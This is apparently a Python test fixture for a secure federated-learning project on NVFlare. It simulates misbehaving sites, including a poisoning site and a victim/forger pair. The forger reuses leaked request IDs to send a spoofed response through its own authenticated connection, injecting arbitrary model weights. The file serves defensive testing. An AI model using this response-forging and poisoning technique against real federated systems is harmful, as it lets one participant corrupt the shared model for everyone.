"""Functions of a federation whose honest sites pull every weight towards 1. A site's name says its role: `slow-1`."""

import json
import os
import sys
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import numpy as np
from nvflare.collab import collab
from nvflare.fuel.f3.cellnet.cell import Adapter
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.cellnet.utils import new_cell_message
from nvflare.fuel.f3.streaming.stream_const import StreamHeaderKey

from secureafl.engines.nvflare.codec import pack
from secureafl.types import NamedArrays

DIM = 1000
PATIENCE = 60.0


def initial_model() -> NamedArrays:
    return {"w": np.zeros(DIM, np.float32)}


def evaluate(arrays: NamedArrays) -> dict[str, float]:
    return {"error": float(np.abs(arrays["w"] - 1.0).mean())}


def train(arrays: NamedArrays, config: Mapping[str, Any]) -> dict[str, Any]:
    role, weights = str(config["site"]).partition("-")[0], arrays["w"]
    time.sleep(float(config.get(f"{role}-delay", 0.1)))
    if role == "raise":
        raise RuntimeError("this site cannot train")
    if role == "exit":
        os._exit(1)
    if role == "garbage":
        return {"v": weights}
    if role == "victim":
        leak_and_wait(Path(config["leak"]))
    if role == "forger":
        forge(Path(config["leak"]), {"w": np.full_like(weights, 1000.0)})
    target = -9.0 if role == "poison" else 1.0
    return {"w": (weights + 0.5 * (target - weights)).astype(np.float32)}


def leak_and_wait(leak: Path) -> None:
    """Give away the id of our request, as NVFlare's debug log does, and train until the forger has answered for us."""
    if leak.exists():
        return
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        assert frame.f_back is not None
        frame = frame.f_back
    headers = frame.f_locals["request"].headers
    kept = (StreamHeaderKey.STREAM_REQ_ID, MessageHeaderKey.REQ_ID, MessageHeaderKey.ORIGIN)
    draft = leak.with_suffix(".draft")
    draft.write_text(json.dumps({key: headers.get(key, "") for key in kept}))
    draft.rename(leak)
    wait_for(leak.with_suffix(".forged"))
    time.sleep(3.0)  # long enough for the forged answer to come first


def forge(leak: Path, weights: NamedArrays) -> None:
    """Answer the victim's request through our own authenticated connection, with our own certificate and token.

    The server takes any reply that carries the id of a request it waits for, whoever sent it.
    """
    if leak.with_suffix(".forged").exists():
        return
    wait_for(leak)
    leaked = json.loads(leak.read_text())
    cell = collab.fl_ctx.get_engine().get_cell()
    reply = new_cell_message({MessageHeaderKey.RETURN_CODE: "ok"}, {"result": {"arrays": pack(weights)}})
    Adapter(None, cell.core_cell.my_info, cell)._send_response(
        reply,
        leaked[StreamHeaderKey.STREAM_REQ_ID],
        leaked[MessageHeaderKey.REQ_ID],
        "collab",
        "call",
        leaked[MessageHeaderKey.ORIGIN],
        False,
    )
    leak.with_suffix(".forged").touch()
    time.sleep(10.0)


def wait_for(path: Path) -> None:
    deadline = time.monotonic() + PATIENCE
    while not path.exists() and time.monotonic() < deadline:
        time.sleep(0.1)
